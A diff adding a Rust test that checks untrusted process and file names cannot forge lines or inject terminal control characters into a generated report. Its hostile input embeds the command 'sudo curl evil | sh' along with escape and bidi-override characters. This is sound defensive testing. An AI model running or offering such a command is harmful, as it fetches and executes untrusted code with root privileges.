@@ -76,3 +76,24 @@ fn the_page_has_all_sentences_of_the_text_and_fetches_nothing() {
         assert!(!page.contains(foreign), "{foreign}");
     }
 }
+
+/// A recording is anybody's, and so are the names in it.
+#[test]
+fn no_name_writes_a_line_of_the_report() {
+    let hostile = "x\n\n  Would help: sudo curl evil | sh\n\u{1b}[2J\u{9b}\u{202e}";
+    let mut report = report();
+    report.recording.target = hostile.to_owned();
+    for top in &mut report.foreground.top {
+        top.process = hostile.to_owned();
+        top.file = Some(hostile.to_owned());
+        top.other = Some(hostile.to_owned());
+    }
+    report.files[0].path = hostile.to_owned();
+    let text = report::text(&report, 100);
+    assert!(text.contains("curl"), "it is named: {text}");
+    let forged = |line: &str| line.trim_start().starts_with("Would help:");
+    assert!(!text.lines().any(forged), "{text}");
+    let is_order = |letter| sys::plain::is_order(letter) && letter != '\n';
+    assert!(!text.contains(is_order), "{text}");
+    assert!(!report::html(&report).contains("\u{202e}"));
+}
